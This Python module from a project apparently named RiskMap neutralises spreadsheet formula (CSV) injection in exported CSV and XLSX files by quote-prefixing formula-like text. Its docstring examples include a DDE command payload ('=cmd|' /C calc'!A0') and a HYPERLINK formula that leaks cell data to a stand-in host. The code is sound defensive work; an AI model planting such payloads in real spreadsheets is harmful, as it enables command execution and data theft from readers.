"""Text cells that cannot attack the reader of a spreadsheet (OWASP "CSV injection").

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK(...)`` leaks data, ``=cmd|' /C calc'!A0`` starts a program through DDE);
a leading tab or carriage return hides such a start from a naive check. Every file RiskMap
writes for spreadsheets goes through this module:

* XLSX: text is always written as a text cell (``data_type "s"``), never as a formula, and a
  formula-like text also gets Excel's quote prefix so that editing the cell keeps it text
  (:func:`set_text_safe`, :func:`append_row`).
* CSV: a formula-like text is prefixed with a single quote ``'``, as OWASP recommends
  (:func:`csv_text`, :func:`csv_row`); the quote shows the reader that the value was neutralised.

Numbers stay numbers: only text is looked at, so ``-3.5`` stored as a number is written as a
number. :data:`FORMULA_PREFIXES` is the one list of dangerous first characters; imports use
:func:`starts_like_formula` to flag such values.

This module lives in ``geo`` because the import side (validation, reject files) needs it as
much as the exports in ``layers`` and the dashboard's downloads.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: First characters that make a spreadsheet read a text cell as a formula (OWASP CSV injection).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(value: Any) -> bool:
    """Whether ``value`` is text that a spreadsheet could run as a formula.

    Parameters
    ----------
    value : Any
        A cell value; only ``str`` can be formula-like (numbers, dates and ``None`` never are).

    Returns
    -------
    bool

    Examples
    --------
    >>> starts_like_formula('=HYPERLINK("http://x/?"&A1,"点击")'), starts_like_formula("-")
    (True, True)
    >>> starts_like_formula("安宁市"), starts_like_formula(-3.5)
    (False, False)
    """
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def csv_text(value: Any) -> Any:
    """Neutralise a CSV cell value: formula-like text gets a leading ``'``, anything else is unchanged.

    Parameters
    ----------
    value : Any
        The value to write.

    Returns
    -------
    Any
        ``"'" + value`` for formula-like text, else ``value``.

    Examples
    --------
    >>> csv_text("=cmd|' /C calc'!A0")
    "'=cmd|' /C calc'!A0"
    >>> csv_text("安宁演示化工"), csv_text(-2)
    ('安宁演示化工', -2)
    """
    return "'" + value if starts_like_formula(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """:func:`csv_text` applied to every value of a row (for ``csv.writer.writerow``).

    Parameters
    ----------
    values : iterable
        The row.

    Returns
    -------
    list
    """
    return [csv_text(v) for v in values]


def set_text_safe(cell: Any, value: Any) -> None:
    """Put ``value`` into an openpyxl cell so that text is never a formula.

    Text is stored as a string cell (``data_type "s"``); formula-like text also gets the quote
    prefix (Excel's own marker for "this is text"), which keeps it text when a reader edits the
    cell. Other values (numbers, dates, booleans, ``None``) are stored as they are.

    Parameters
    ----------
    cell : openpyxl.cell.Cell
        The cell.
    value : Any
        What to write.
    """
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if starts_like_formula(value):
            cell.quotePrefix = True


def append_row(ws: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with :func:`set_text_safe` for every cell.

    Parameters
    ----------
    ws : openpyxl.worksheet.worksheet.Worksheet
        The sheet; the row goes below its last used row.
    values : iterable
        Cell values, left to right.
    """
    row = list(values)
    ws.append(row)
    index = ws._current_row  # the row append just wrote (max_row may be larger when cells below are styled)
    for col, value in enumerate(row, 1):
        if isinstance(value, str):
            set_text_safe(ws.cell(row=index, column=col), value)
